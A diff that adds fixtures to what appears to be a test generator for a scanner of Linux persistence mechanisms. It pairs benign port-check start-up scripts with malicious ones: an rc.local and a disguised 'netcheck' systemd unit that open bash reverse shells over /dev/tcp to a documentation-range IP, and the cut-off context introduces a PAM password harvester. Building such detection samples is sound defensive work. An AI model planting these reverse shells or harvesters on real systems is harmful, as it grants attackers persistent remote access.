@@ -124,6 +124,19 @@ def main():
           "#!/bin/sh\nwhile true; do\n\techo ping | nc -w 2 127.0.0.1 8080 >/dev/null || logger health failed\n"
           "\tsleep 60\ndone &\n", 0o755)
 
+    # A reverse shell on a socket bash opens itself (/dev/tcp), from rc.local and from a unit;
+    # beside a start-up script that only waits for a port to answer.
+    write("devtcp-shell/etc/rc.local",
+          "#!/bin/sh -e\n# rc.local\n(while true; do bash -i >& /dev/tcp/192.0.2.44/8443 0>&1; sleep 300; done) &\nexit 0\n", 0o755)
+    write("devtcp-shell/etc/systemd/system/netcheck.service",
+          "[Unit]\nDescription=Network check\nAfter=network-online.target\n\n[Service]\nType=simple\n"
+          "ExecStart=/bin/bash -c 'exec 5<>/dev/tcp/192.0.2.44/443; sh <&5 >&5 2>&5'\nRestart=always\n\n"
+          "[Install]\nWantedBy=multi-user.target\n")
+    write("devtcp-healthcheck/etc/init.d/S40app",
+          "#!/bin/sh\n# Start the app once its database answers.\nDB_PORT=5432\n"
+          "until (echo > /dev/tcp/127.0.0.1/$DB_PORT) 2>/dev/null; do sleep 1; done\n"
+          "timeout 1 bash -c '</dev/tcp/127.0.0.1/8080' || /usr/bin/app --port 8080 &\n", 0o755)
+
     # PAM hands the typed password to a program: pam_exec with expose_authtok on an auth line
     # (a credential harvester), beside pam_exec for a login notice, which never sees it.
     write("pam-exec-harvest/etc/pam.d/common-auth",
